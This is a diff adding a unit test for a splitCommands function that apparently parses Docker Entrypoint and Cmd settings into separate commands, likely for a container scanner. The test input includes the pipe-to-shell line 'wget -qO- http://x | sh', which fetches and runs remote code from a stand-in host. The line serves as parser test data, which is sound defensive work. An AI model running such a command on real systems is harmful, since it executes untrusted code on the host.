@@ -88,6 +88,14 @@ describe('splitCommands', () => {
     }
   });
 
+  it('reads an Entrypoint sent as one string ("/bin/sh -c") as its words, so the Cmd is the script', () => {
+    const out = splitCommands({ entrypoint: ['/bin/sh -c'], cmd: ['wget -qO- http://x | sh'] });
+    expect(out.map((c) => c.argv.join(' '))).toEqual(['/bin/sh -c wget -qO- http://x | sh', 'wget -qO- http://x', 'sh']);
+    expect(out[1]?.source).toBe('Config.Cmd[0]');
+    expect(splitCommands({ entrypoint: ['/docker-entrypoint.sh'], cmd: ['nginx', '-g', 'daemon off;'] })[0]?.argv)
+      .toEqual(['/docker-entrypoint.sh', 'nginx', '-g', 'daemon off;']);
+  });
+
   it('lexes unterminated input without throwing', () => {
     expect(() => lex('echo "abc $(curl `x')).not.toThrow();
     expect(() => splitShell("a 'b\n$(((\n<<")).not.toThrow();
